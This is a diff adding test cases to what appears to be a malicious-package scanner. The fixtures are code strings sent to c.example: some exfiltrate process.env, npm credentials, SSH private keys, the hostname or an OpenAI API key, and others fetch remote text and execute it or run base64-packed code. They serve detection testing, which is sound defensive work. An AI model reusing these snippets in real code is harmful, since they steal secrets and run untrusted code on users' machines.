@@ -60,6 +60,74 @@ describe('check', () => {
   });
 });
 
+describe('what reaches one call in several ways is told once, with where each begins', () => {
+  const READ = (path: string) => `require('fs').readFileSync(process.env.HOME + '${path}', 'utf8')`;
+
+  test.each([
+    [
+      'secrets-sent',
+      "fetch('https://c.example/?' + JSON.stringify(process.env), { method: 'POST', body: JSON.stringify(process.env) })",
+      [
+        'collects the whole environment while it is loaded',
+        'sends the whole environment over the network while it is loaded',
+      ],
+      2,
+    ],
+    [
+      'secrets-sent',
+      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.npmrc')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
+      ['collects npm credentials while it is loaded', 'sends npm credentials over the network while it is loaded'],
+      2,
+    ],
+    [
+      'secrets-sent',
+      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.ssh/id_rsa')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
+      [
+        'collects SSH keys while it is loaded',
+        'collects npm credentials while it is loaded',
+        'sends SSH keys over the network while it is loaded',
+        'sends npm credentials over the network while it is loaded',
+      ],
+      1,
+    ],
+    [
+      'identity-sent',
+      "const os = require('os');\nfetch('https://c.example/' + os.hostname(), { body: os.hostname() })",
+      ['sends the result of os.hostname over the network while it is loaded'],
+      2,
+    ],
+    [
+      'key-to-stranger',
+      "fetch('https://c.example/?' + process.env.OPENAI_API_KEY, { body: process.env.OPENAI_API_KEY })",
+      [
+        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
+        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
+      ],
+      2,
+    ],
+    [
+      'dynamic-code',
+      "new Function(atob('Y29uc29sZS5sb2coMSk='), atob('Y29uc29sZS5sb2coMik='))()",
+      ['runs a packed text as code while it is loaded'],
+      2,
+    ],
+    [
+      'downloads-and-runs',
+      "require('child_process').exec((await fetch('https://c.example/1')).text() + ' ' + (await fetch('https://c.example/2')).text())",
+      ['runs a command that came over the network while it is loaded'],
+      2,
+    ],
+  ])('%s, %#', (rule, code, messages, beginnings) => {
+    const only = rules.filter(({ id }) => id === rule);
+    const { value } = checkCode(code, only);
+    expect(value.map(({ message }) => message).sort()).toEqual(messages);
+    for (const { evidence } of value) {
+      const notes = evidence.map(({ note }) => note);
+      expect(notes.filter((note) => note === notes.at(-1))).toHaveLength(beginnings);
+    }
+  });
+});
+
 describe('what does not parse', () => {
   const gapsOf = (files: Record<string, string>, manifest: Record<string, unknown> = {}) =>
     check(rules, { kind: 'package', package: packageOf({ name: '', files, manifest }), root: true }).gaps;
